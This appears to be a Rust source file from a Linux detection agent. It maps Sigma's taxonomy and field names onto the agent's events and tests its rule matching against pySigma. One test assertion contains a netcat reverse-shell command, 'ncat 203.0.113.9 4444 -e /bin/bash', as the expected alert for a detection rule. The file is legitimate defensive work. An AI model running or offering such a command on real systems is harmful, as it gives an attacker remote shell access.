//! Sigma's standard taxonomy for Linux: which `logsource` a public rule may name, and which of
//! bannin's fields each of its field names means (the table in `rules/README.md`).
//!
//! A rule without a `logsource`, or with `product: bannin`, uses bannin's own field names. A rule
//! for `product: linux` (or no product) and one of the categories below uses Sigma's names, and
//! matches only the event kinds its category stands for.

use yaml_serde::{Mapping, Value as Yaml};

use super::fields::Field;

/// The field names a rule's `detection` is written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Taxonomy {
    /// bannin's own names (`exe`, `cmdline`...), any event kind.
    Bannin,
    /// Sigma's standard names for one Linux log source category.
    Sigma(Category),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Category {
    ProcessCreation,
    FileEvent,
    FileDelete,
    FileRename,
    NetworkConnection,
}

/// Why a rule's `logsource` is not one bannin's events can answer.
#[derive(Debug, thiserror::Error)]
#[error(
    "unsupported logsource {0} (bannin runs product linux, category process_creation, file_event, file_delete, file_rename or network_connection)"
)]
pub(crate) struct UnsupportedLogsource(String);

/// Fields of Sigma's taxonomy that bannin's events do not carry, and why; every other name
/// outside the mapping is simply unknown.
const UNAVAILABLE: &[(&str, &str)] = &[
    (
        "DestinationHostname",
        "the agent sees the addresses a process connects to, not the DNS names it looked up",
    ),
    (
        "SourceHostname",
        "the agent sees the addresses a process connects to, not the DNS names it looked up",
    ),
    ("DestinationPortName", "bannin reports port numbers only"),
    ("SourcePortName", "bannin reports port numbers only"),
    ("Hashes", "the agent does not hash executables"),
    ("md5", "the agent does not hash executables"),
    ("sha1", "the agent does not hash executables"),
    ("sha256", "the agent does not hash executables"),
    ("Imphash", "the agent does not hash executables"),
    (
        "OriginalFileName",
        "Linux executables carry no version resource",
    ),
    ("Product", "Linux executables carry no version resource"),
    ("Company", "Linux executables carry no version resource"),
    ("Description", "Linux executables carry no version resource"),
    ("FileVersion", "Linux executables carry no version resource"),
    ("IntegrityLevel", "Linux processes have no integrity level"),
    ("ProcessGuid", "bannin names processes by pid and ancestry"),
    (
        "ParentProcessGuid",
        "bannin names processes by pid and ancestry",
    ),
    ("LogonGuid", "bannin names processes by pid and ancestry"),
    (
        "TerminalSessionId",
        "the agent does not record terminal sessions",
    ),
];

impl Taxonomy {
    /// The taxonomy a rule's `logsource` asks for.
    pub(crate) fn of(logsource: Option<&Mapping>) -> Result<Taxonomy, UnsupportedLogsource> {
        let Some(logsource) = logsource else {
            return Ok(Taxonomy::Bannin);
        };
        let text = |key: &str| -> Result<Option<&str>, UnsupportedLogsource> {
            match logsource.get(key) {
                None | Some(Yaml::Null) => Ok(None),
                Some(Yaml::String(s)) => Ok(Some(s.as_str())),
                Some(_) => Err(UnsupportedLogsource(format!("({key} is not text)"))),
            }
        };
        let (product, category, service) = (text("product")?, text("category")?, text("service")?);
        if product == Some("bannin") {
            return Ok(Taxonomy::Bannin);
        }
        let described = || {
            [
                ("product", product),
                ("category", category),
                ("service", service),
            ]
            .iter()
            .filter_map(|(k, v)| v.map(|v| format!("{k}: {v}")))
            .collect::<Vec<_>>()
            .join(", ")
        };
        if !matches!(product, None | Some("linux")) || service.is_some() {
            return Err(UnsupportedLogsource(format!("{{{}}}", described())));
        }
        let category = match category {
            Some("process_creation") => Category::ProcessCreation,
            Some("file_event") => Category::FileEvent,
            Some("file_delete") => Category::FileDelete,
            Some("file_rename") => Category::FileRename,
            Some("network_connection") => Category::NetworkConnection,
            _ => return Err(UnsupportedLogsource(format!("{{{}}}", described()))),
        };
        Ok(Taxonomy::Sigma(category))
    }

    /// The field a name in a detection means, or why there is none.
    pub(crate) fn field(self, name: &str) -> Result<Field, String> {
        match self {
            Taxonomy::Bannin => Field::parse(name).ok_or_else(|| {
                format!("unknown field {name:?} (see rules/README.md for the field names)")
            }),
            Taxonomy::Sigma(category) => category.field(name).ok_or_else(|| {
                match UNAVAILABLE.iter().find(|(n, _)| *n == name) {
                    Some((_, why)) => format!("field {name:?} is not carried by bannin's events: {why}"),
                    None => format!(
                        "unknown field {name:?} for category {} (see rules/README.md for the mapping)",
                        category.name()
                    ),
                }
            }),
        }
    }

    /// The event kinds a rule of this taxonomy can match; `None` for bannin's (any kind).
    pub(crate) fn kinds(self) -> Option<&'static [&'static str]> {
        match self {
            Taxonomy::Bannin => None,
            Taxonomy::Sigma(category) => Some(category.kinds()),
        }
    }
}

impl Category {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Category::ProcessCreation => "process_creation",
            Category::FileEvent => "file_event",
            Category::FileDelete => "file_delete",
            Category::FileRename => "file_rename",
            Category::NetworkConnection => "network_connection",
        }
    }

    /// `file_event` is Sysmon's FileCreate (a file created or overwritten): bannin's creates,
    /// writes, and renames, whose new name is a file that appears.
    pub(crate) fn kinds(self) -> &'static [&'static str] {
        match self {
            Category::ProcessCreation => &["process.start"],
            Category::FileEvent => &["file.create", "file.write", "file.rename"],
            Category::FileDelete => &["file.delete"],
            Category::FileRename => &["file.rename"],
            Category::NetworkConnection => &["net.connect"],
        }
    }

    fn field(self, name: &str) -> Option<Field> {
        // The acting process, on every category.
        let process = match name {
            "Image" => Some(Field::Exe),
            "CommandLine" => Some(Field::Cmdline),
            "User" => Some(Field::User),
            "ProcessId" => Some(Field::Pid),
            "ParentProcessId" => Some(Field::Ppid),
            "ParentImage" => Some(Field::ParentExe),
            "ParentCommandLine" => Some(Field::ParentCmdline),
            "ParentUser" => Some(Field::ParentUser),
            "LogonId" => Some(Field::Uid),
            _ => None,
        };
        let own = match (self, name) {
            (Category::ProcessCreation, "CurrentDirectory") => Some(Field::Cwd),
            (
                Category::FileEvent | Category::FileDelete | Category::FileRename,
                "TargetFilename",
            ) => Some(Field::Path),
            (Category::FileEvent | Category::FileRename, "SourceFilename") => Some(Field::FromPath),
            (Category::NetworkConnection, _) => match name {
                "DestinationIp" => Some(Field::RemoteAddr),
                "DestinationPort" => Some(Field::RemotePort),
                "SourceIp" => Some(Field::LocalAddr),
                "SourcePort" => Some(Field::LocalPort),
                "Protocol" => Some(Field::Protocol),
                "Initiated" => Some(Field::Initiated),
                "DestinationIsIpv6" => Some(Field::RemoteIsIpv6),
                "SourceIsIpv6" => Some(Field::LocalIsIpv6),
                _ => None,
            },
            _ => None,
        };
        // bannin's own names stay usable beside Sigma's (`host`, `remote_scope`...).
        process.or(own).or_else(|| Field::parse(name))
    }

    /// What an alert of a rule in this category carries when the rule lists no `fields`.
    pub(crate) fn alert_fields(self) -> &'static [Field] {
        match self {
            Category::ProcessCreation => &[
                Field::Pid,
                Field::Exe,
                Field::Cmdline,
                Field::User,
                Field::Cwd,
                Field::ParentExe,
                Field::ParentCmdline,
            ],
            Category::FileEvent | Category::FileDelete | Category::FileRename => &[
                Field::Path,
                Field::FromPath,
                Field::Pid,
                Field::Exe,
                Field::Cmdline,
                Field::User,
            ],
            Category::NetworkConnection => &[
                Field::RemoteAddr,
                Field::RemotePort,
                Field::Protocol,
                Field::Pid,
                Field::Exe,
                Field::Cmdline,
                Field::User,
            ],
        }
    }

    /// What makes two matches on one host the same alert for de-duplication.
    pub(crate) fn dedup_by(self) -> &'static [Field] {
        match self {
            Category::ProcessCreation => &[Field::Exe, Field::Cmdline],
            Category::FileEvent | Category::FileDelete | Category::FileRename => &[Field::Path],
            Category::NetworkConnection => &[Field::Exe, Field::RemoteAddr, Field::RemotePort],
        }
    }

    /// The summary template: the title, then what the event was.
    pub(crate) fn summary(self, title: &str) -> String {
        // `{` in a title would read as a field name.
        let title: String = title
            .chars()
            .map(|c| match c {
                '{' => '(',
                '}' => ')',
                c => c,
            })
            .collect();
        match self {
            Category::ProcessCreation => format!("{title}: {{cmdline}} as {{user}} on {{host}}"),
            Category::FileEvent | Category::FileDelete | Category::FileRename => {
                format!("{title}: {{path}} by {{exe}} on {{host}}")
            }
            Category::NetworkConnection => {
                format!("{title}: {{exe}} to {{remote_addr}}:{{remote_port}} on {{host}}")
            }
        }
    }
}

#[cfg(test)]
mod tests {
    //! Sigma's standard taxonomy on bannin's events: the test rules of `tests/sigma/rules` (written
    //! as the public rules are) against the events of `tests/sigma/cases.yml`, each rule matching
    //! what it should and none of the near misses; the same events through pySigma's SQLite backend
    //! for a rule-by-rule comparison with an independent engine; and hostile rule files.

    use std::collections::{BTreeMap, BTreeSet};
    use std::path::{Path, PathBuf};

    use serde::Deserialize;

    use super::*;
    use crate::detect::fields::Subject;
    use crate::detect::testkit::*;

    fn repo(path: &str) -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
    }

    /// One line of `cases.yml`: an event in bannin's field names, and the rules it must raise.
    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Case {
        kind: String,
        exe: Option<String>,
        cmdline: Option<String>,
        user: Option<String>,
        uid: Option<u32>,
        pid: Option<u32>,
        ppid: Option<u32>,
        cwd: Option<String>,
        parent_exe: Option<String>,
        parent_cmdline: Option<String>,
        parent_user: Option<String>,
        path: Option<String>,
        from_path: Option<String>,
        protocol: Option<String>,
        local_addr: Option<String>,
        local_port: Option<u16>,
        remote_addr: Option<String>,
        remote_port: Option<u16>,
        expect: Vec<String>,
    }

    impl Case {
        fn body(&self) -> Body {
            let pid = self.pid.unwrap_or(4242);
            let who = ProcessInfo {
                pid,
                ppid: Some(self.ppid.unwrap_or(pid - 1)),
                exe: self.exe.clone().unwrap_or("/usr/bin/true".into()),
                cmdline: self.cmdline.clone().unwrap_or("true".into()),
                user: self.user.clone().unwrap_or("sato".into()),
                uid: Some(self.uid.unwrap_or(1000)),
                ancestry: vec![Ancestor {
                    pid: self.ppid.unwrap_or(pid - 1),
                    exe: self.parent_exe.clone().unwrap_or("/usr/bin/bash".into()),
                    cmdline: self.parent_cmdline.clone().unwrap_or("-bash".into()),
                    user: self.parent_user.clone().unwrap_or("sato".into()),
                }]
                .into(),
            };
            let path = self.path.clone().unwrap_or_default();
            let mut body = match self.kind.as_str() {
                "process.start" | "process.exit" => {
                    let Body::Process(mut event) = start(who) else {
                        unreachable!()
                    };
                    if self.kind == "process.exit" {
                        event.action = ProcessAction::Exit;
                    }
                    event.cwd = self.cwd.clone().unwrap_or("/home/sato".into());
                    Body::Process(event)
                }
                "file.create" => file(FileAction::Create, &path, Some(10), None, &who),
                "file.write" => file(FileAction::Write, &path, Some(10), None, &who),
                "file.delete" => file(FileAction::Delete, &path, None, None, &who),
                "file.rename" => rename(self.from_path.as_deref().unwrap(), &path, 10, &who),
                "net.connect" => connect("198.51.100.7", "public", &who),
                other => panic!("cases.yml: kind {other}"),
            };
            if let Body::Net(net) = &mut body {
                net.protocol = self.protocol.clone().unwrap_or("tcp".into());
                net.local_addr = self.local_addr.clone().unwrap_or("10.1.2.3".into());
                net.local_port = self.local_port.unwrap_or(45678);
                net.remote_addr = self.remote_addr.clone().unwrap_or("198.51.100.7".into());
                net.remote_port = self.remote_port.unwrap_or(443);
            }
            body
        }
    }

    fn cases() -> Vec<Case> {
        let text = std::fs::read_to_string(repo("tests/sigma/cases.yml")).unwrap();
        yaml_serde::from_str(&text).unwrap()
    }

    /// The test rules loaded as `[detection] rule_dirs`, and each rule's id by its file name.
    fn test_rules() -> (DetectConfig, BTreeMap<String, String>) {
        let config = DetectConfig {
            builtin_rules: false,
            rule_dirs: vec![repo("tests/sigma/rules")],
            ..DetectConfig::default()
        };
        let report = crate::detect::check_rules(&repo("tests/sigma/rules"), &config);
        let mut ids = BTreeMap::new();
        for entry in report {
            assert_eq!(entry.outcome, Ok(()), "{}", entry.file.display());
            let stem = entry
                .file
                .file_stem()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            ids.insert(stem, entry.id.unwrap());
        }
        (config, ids)
    }

    /// Which cases each rule matches, by bannin's engine: every case on its own host, so that no
    /// de-duplication folds one into another.
    fn bannin_matches(
        config: &DetectConfig,
        cases: &[Case],
    ) -> (BTreeMap<String, BTreeSet<usize>>, Vec<Alert>) {
        let mut fleet = Fleet::new(config.clone());
        let mut matches: BTreeMap<String, BTreeSet<usize>> = BTreeMap::new();
        let mut alerts = Vec::new();
        for (i, case) in cases.iter().enumerate() {
            for alert in new_alerts(&fleet.send(&format!("h{i}"), i as i64, case.body())) {
                matches.entry(alert.rule.clone()).or_default().insert(i);
                alerts.push(alert.clone());
            }
        }
        (matches, alerts)
    }

    #[test]
    fn standard_taxonomy_rules_match_their_events_and_not_the_near_misses() {
        let (config, ids) = test_rules();
        assert!(ids.len() >= 20, "{ids:?}");
        let cases = cases();
        let (matches, alerts) = bannin_matches(&config, &cases);
        for (i, case) in cases.iter().enumerate() {
            let expected: BTreeSet<&str> = case
                .expect
                .iter()
                .map(|stem| {
                    ids.get(stem)
                        .unwrap_or_else(|| panic!("no rule {stem}"))
                        .as_str()
                })
                .collect();
            let got: BTreeSet<&str> = matches
                .iter()
                .filter(|(_, hits)| hits.contains(&i))
                .map(|(rule, _)| rule.as_str())
                .collect();
            assert_eq!(
                got, expected,
                "case {i} ({} {:?} {:?} {:?})",
                case.kind, case.exe, case.cmdline, case.path
            );
        }
        // Every rule has a case it matches and a near miss it does not.
        for (stem, id) in &ids {
            assert!(matches.contains_key(id), "{stem} matched nothing");
            let misses = cases
                .iter()
                .filter(|c| c.expect.is_empty() && c.kind != "process.exit")
                .count();
            assert!(misses > 0);
        }
        // The rule's title, tags and level reach the alert, with the event's own fields.
        let netcat = &ids["proc_creation_lnx_test_netcat_exec"];
        let alert = alerts.iter().find(|a| &a.rule == netcat).unwrap();
        assert_eq!(alert.severity, Severity::High);
        assert_eq!(
            alert.fields["title"],
            "Netcat Executes a Program (bannin test)"
        );
        assert_eq!(
            alert.fields["tags"],
            serde_json::json!(["attack.execution", "attack.t1059.004"])
        );
        assert_eq!(alert.fields["exe"], "/usr/bin/ncat");
        assert_eq!(alert.fields["parent_exe"], "/usr/bin/bash");
        assert_eq!(
            alert.summary,
            "Netcat Executes a Program (bannin test): ncat 203.0.113.9 4444 -e /bin/bash as sato on h0"
        );
        let quiet = &ids["proc_creation_lnx_test_no_cwd_null"];
        let alert = alerts.iter().find(|a| &a.rule == quiet).unwrap();
        assert_eq!(
            (alert.severity, &alert.fields["level"]),
            (Severity::Low, &Json::from("informational"))
        );
    }

    /// The Sigma names of each category, for the independent engine's table: bannin's events as a
    /// Sysmon-for-Linux log would hold them.
    const SIGMA_NAMES: &[&str] = &[
        "Image",
        "CommandLine",
        "User",
        "ProcessId",
        "ParentProcessId",
        "ParentImage",
        "ParentCommandLine",
        "ParentUser",
        "LogonId",
        "CurrentDirectory",
        "TargetFilename",
        "SourceFilename",
        "DestinationIp",
        "DestinationPort",
        "SourceIp",
        "SourcePort",
        "Protocol",
        "Initiated",
        "DestinationIsIpv6",
        "SourceIsIpv6",
    ];

    /// Which of `events` each rule of `rules` matches, according to pySigma's SQLite backend: the
    /// events as each category's table, in Sigma's names.
    fn pysigma_matches(rules: &Path, events: &[Body]) -> BTreeMap<String, BTreeSet<usize>> {
        let mut fleet = Fleet::new(DetectConfig {
            builtin_rules: false,
            ..DetectConfig::default()
        });
        let mut tables: BTreeMap<&str, Vec<Json>> = BTreeMap::new();
        for (i, body) in events.iter().enumerate() {
            let record = fleet.record("h", i as i64, body.clone());
            let subject = Subject::Record(&record);
            for category in [
                Category::ProcessCreation,
                Category::FileEvent,
                Category::FileDelete,
                Category::FileRename,
                Category::NetworkConnection,
            ] {
                if !category.kinds().contains(&subject.kind()) {
                    continue;
                }
                let mut fields = Map::new();
                for name in SIGMA_NAMES {
                    let Some(field) = category.field(name) else {
                        continue;
                    };
                    match field.json(subject) {
                        // An empty text is a field the event lacks, as `null` says.
                        None | Some(Json::Null) => {}
                        Some(Json::String(s)) if s.is_empty() => {}
                        Some(Json::Bool(b)) => {
                            fields.insert(name.to_string(), Json::from(b.to_string()));
                        }
                        Some(value) => {
                            fields.insert(name.to_string(), value);
                        }
                    }
                }
                tables
                    .entry(category.name())
                    .or_default()
                    .push(serde_json::json!({ "case": i, "fields": fields }));
            }
        }
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("events.json");
        std::fs::write(&path, serde_json::to_string(&tables).unwrap()).unwrap();
        let output = std::process::Command::new(pysigma_python())
            .arg(repo("tests/sigma/pysigma_matches.py"))
            .arg(rules)
            .arg(&path)
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "pySigma failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        serde_json::from_slice(&output.stdout).unwrap()
    }

    /// The outside check: every rule of the Sigma directories in `BANNIN_SIGMAHQ` (e.g. a checkout
    /// of SigmaHQ's `rules/linux`, `rules-emerging-threats`, `rules-threat-hunting`) that bannin
    /// loads, on events made from the rules' own values (`pysigma_generate.py`), judged by bannin
    /// and by pySigma: the same matches, rule by rule. SigmaHQ's rules are not part of this
    /// repository (their licence is the DRL), so this runs by hand:
    /// `BANNIN_SIGMAHQ=DIR[:DIR] cargo test --bin bannin-collector sigmahq -- --ignored --nocapture`.
    #[test]
    #[ignore]
    fn public_rules_agree_with_pysigma_on_events_made_from_them() {
        let dirs = std::env::var_os("BANNIN_SIGMAHQ").expect("BANNIN_SIGMAHQ=DIR[:DIR]");
        let accepted = tempfile::tempdir().unwrap();
        let config = DetectConfig {
            builtin_rules: false,
            ..DetectConfig::default()
        };
        let (mut loaded, mut refused) = (0, 0);
        for dir in std::env::split_paths(&dirs) {
            for entry in crate::detect::check_rules(&dir, &config) {
                match entry.outcome {
                    Ok(()) => {
                        loaded += 1;
                        let name = format!("{loaded:04}.yml");
                        std::fs::copy(&entry.file, accepted.path().join(name)).unwrap();
                    }
                    Err(_) => refused += 1,
                }
            }
        }
        let output = std::process::Command::new(pysigma_python())
            .arg(repo("tests/sigma/pysigma_generate.py"))
            .arg(accepted.path())
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        let generated: Vec<Json> = serde_json::from_slice(&output.stdout).unwrap();
        let sigma_to_bannin = [
            ("Image", "exe"),
            ("CommandLine", "cmdline"),
            ("User", "user"),
            ("LogonId", "uid"),
            ("ProcessId", "pid"),
            ("ParentProcessId", "ppid"),
            ("ParentImage", "parent_exe"),
            ("ParentCommandLine", "parent_cmdline"),
            ("ParentUser", "parent_user"),
            ("CurrentDirectory", "cwd"),
            ("TargetFilename", "path"),
            ("SourceFilename", "from_path"),
            ("DestinationIp", "remote_addr"),
            ("DestinationPort", "remote_port"),
            ("SourceIp", "local_addr"),
            ("SourcePort", "local_port"),
            ("Protocol", "protocol"),
        ];
        let numeric = ["uid", "pid", "ppid", "remote_port", "local_port"];
        let events: Vec<Body> = generated
            .iter()
            .filter_map(|event| {
                let kind = match event["category"].as_str()? {
                    "process_creation" => "process.start",
                    "file_event" => "file.create",
                    "file_delete" => "file.delete",
                    "file_rename" => "file.rename",
                    _ => "net.connect",
                };
                let mut case = Map::new();
                case.insert("kind".into(), kind.into());
                case.insert("expect".into(), Json::Array(Vec::new()));
                if kind == "file.rename" {
                    case.insert("from_path".into(), "/tmp/old".into());
                }
                for (sigma, value) in event["fields"].as_object()? {
                    let Some((_, name)) = sigma_to_bannin.iter().find(|(s, _)| s == sigma) else {
                        continue;
                    };
                    let value = if numeric.contains(name) {
                        match value.as_u64().or_else(|| value.as_str()?.parse().ok()) {
                            Some(n) if n < 65536 => Json::from(n),
                            _ => continue,
                        }
                    } else {
                        Json::from(
                            value
                                .as_str()
                                .map_or_else(|| value.to_string(), str::to_string),
                        )
                    };
                    case.insert(name.to_string(), value);
                }
                let case: Case = serde_json::from_value(Json::Object(case)).ok()?;
                Some(case.body())
            })
            .collect();
        let pysigma = pysigma_matches(accepted.path(), &events);
        let mut fleet = Fleet::new(DetectConfig {
            builtin_rules: false,
            rule_dirs: vec![accepted.path().to_path_buf()],
            ..DetectConfig::default()
        });
        let mut bannin: BTreeMap<String, BTreeSet<usize>> = BTreeMap::new();
        for (i, body) in events.iter().enumerate() {
            for alert in new_alerts(&fleet.send(&format!("h{i}"), i as i64, body.clone())) {
                bannin.entry(alert.rule.clone()).or_default().insert(i);
            }
        }
        let mut differ = Vec::new();
        let mut matching = 0;
        for (rule, theirs) in &pysigma {
            let ours = bannin.get(rule).cloned().unwrap_or_default();
            matching += usize::from(!ours.is_empty());
            if &ours != theirs {
                differ.push(format!("{rule}: bannin {ours:?}, pySigma {theirs:?}"));
            }
        }
        println!(
            "{loaded} rules loaded ({refused} refused), {} events, {matching} rules matched some event, {} differ",
            events.len(),
            differ.len()
        );
        assert_eq!(pysigma.len(), loaded);
        assert!(differ.is_empty(), "{}", differ.join("\n"));
    }

    fn pysigma_python() -> PathBuf {
        if let Some(python) = std::env::var_os("BANNIN_TEST_PYSIGMA") {
            return PathBuf::from(python);
        }
        let venv = repo("target/pysigma/bin/python3");
        assert!(
            venv.exists(),
            "pySigma is not installed: scripts/test installs pysigma-backend-sqlite into \
             target/pysigma (or set BANNIN_TEST_PYSIGMA to a Python that has it)"
        );
        venv
    }

    #[test]
    fn bannin_and_pysigma_sqlite_match_the_same_events_rule_by_rule() {
        let (config, ids) = test_rules();
        let cases = cases();
        let (bannin, _) = bannin_matches(&config, &cases);
        let events: Vec<Body> = cases.iter().map(Case::body).collect();
        let output = pysigma_matches(&repo("tests/sigma/rules"), &events);
        let pysigma = output;
        assert_eq!(pysigma.len(), ids.len(), "{pysigma:?}");
        for (stem, id) in &ids {
            let ours = bannin.get(id).cloned().unwrap_or_default();
            assert!(
                !ours.is_empty(),
                "{stem}: a comparison of nothing proves nothing"
            );
            assert_eq!(ours, pysigma[id], "{stem}: bannin and pySigma differ");
        }
    }
}
